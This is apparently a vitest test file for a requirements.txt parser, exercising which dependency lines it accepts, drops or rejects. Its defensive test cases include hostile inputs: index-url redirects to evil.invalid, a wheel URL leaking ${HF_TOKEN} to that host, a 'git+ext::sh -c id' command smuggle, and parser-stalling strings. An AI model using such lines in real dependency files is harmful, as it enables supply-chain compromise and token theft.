import { expect, test } from 'vitest';
import { parseRequirements } from './parse-requirements.ts';

const textsOf = (text: string) => parseRequirements(text).requirements.map((each) => each.text);

test.each([
  ['numpy', 'numpy'],
  ['numpy # why', 'numpy'],
  ['  Pillow >= 9.0 , <11  ', 'Pillow>=9.0,<11'],
  ['opencv-python(>=4.0 ) ', 'opencv-python>=4.0'],
  ['torch==2.8.0+cu128', 'torch==2.8.0+cu128'],
  ['transformers[torch, sentencepiece]~=4.40', 'transformers[torch, sentencepiece]~=4.40'],
  [
    'onnx; python_version < "3.12" and sys_platform == "linux"',
    'onnx ; python_version < "3.12" and sys_platform == "linux"',
  ],
  [
    'insightface @ https://host.invalid/insightface-0.7-py3-none-any.whl#sha256=ab',
    'insightface @ https://host.invalid/insightface-0.7-py3-none-any.whl#sha256=ab',
  ],
  [
    'clip @ git+https://host.invalid/clip.git@main ; python_version > "3"',
    'clip @ git+https://host.invalid/clip.git@main ; python_version > "3"',
  ],
  [
    'git+https://host.invalid/sam.git@v1#egg=segment_anything',
    'git+https://host.invalid/sam.git@v1#egg=segment_anything',
  ],
  ['scipy \\\n  >=1.0, \\\n  <2', 'scipy>=1.0,<2'],
  ['einops==0.8.* --hash=sha256:abc', 'einops==0.8.*'],
  ['\uFEFFtqdm\r\n# nothing\r\n\r\n', 'tqdm'],
  ['a===1.0', 'a===1.0'],
])('%j is taken as %j', (line, text) => {
  const parsed = parseRequirements(line);
  expect(parsed.requirements.map((each) => each.text)).toEqual([text]);
  expect(parsed.problems).toEqual([]);
});

test.each([
  '--index-url https://evil.invalid/simple',
  '--extra-index-url=https://evil.invalid/simple',
  '-i https://evil.invalid/simple',
  '-f /tmp/wheels',
  '-e .',
  '-c constraints.txt',
  '--trusted-host evil.invalid',
  '.',
  './vendor/thing.whl',
  '/opt/thing.whl',
  'file:///opt/thing.whl',
  'thing @ file:///opt/thing.whl',
  'thing @ ./thing.whl',
  'thing @ https://evil.invalid/${HF_TOKEN}/thing.whl',
])('%j is left out with a warning', (line) => {
  expect(parseRequirements(`${line}\ntqdm`)).toMatchObject({
    requirements: [{ name: 'tqdm' }],
    warnings: [expect.stringContaining('line 1')],
    problems: [],
  });
});

test.each([
  '>=1.0',
  'two words',
  'numpy==',
  'numpy=>1',
  'thing @ ftp://host.invalid/x',
  'git+ext::sh -c id',
  'git+file:///opt/x',
  'numpy ; x -i https://evil.invalid',
  'x'.repeat(5_000),
])('%.40j is a problem', (line) => {
  expect(parseRequirements(line)).toMatchObject({ requirements: [], problems: [expect.stringContaining('line 1')] });
});

test('other files are named, and names are as indexes compare them', () => {
  expect(parseRequirements('-r more.txt\n--requirement=deep/other.txt\n-rlast.txt')).toMatchObject({
    includes: ['more.txt', 'deep/other.txt', 'last.txt'],
  });
  expect(parseRequirements('Foo_Bar.baz[a]>1').requirements).toMatchObject([
    { name: 'foo-bar-baz', extras: '[a]', specifier: '>1', isDirect: false },
  ]);
});

test('hostile lines are done with at once', () => {
  const blanks = `a${' '.repeat(3_900)}@`; // with patterns that share out blanks: hours
  const lines = ['a '.repeat(100_000), `${' '.repeat(200_000)}x`, '-'.repeat(3_000), blanks, `a[${','.repeat(3_900)}`];
  expect(textsOf(lines.join('\n'))).toEqual([]);
});
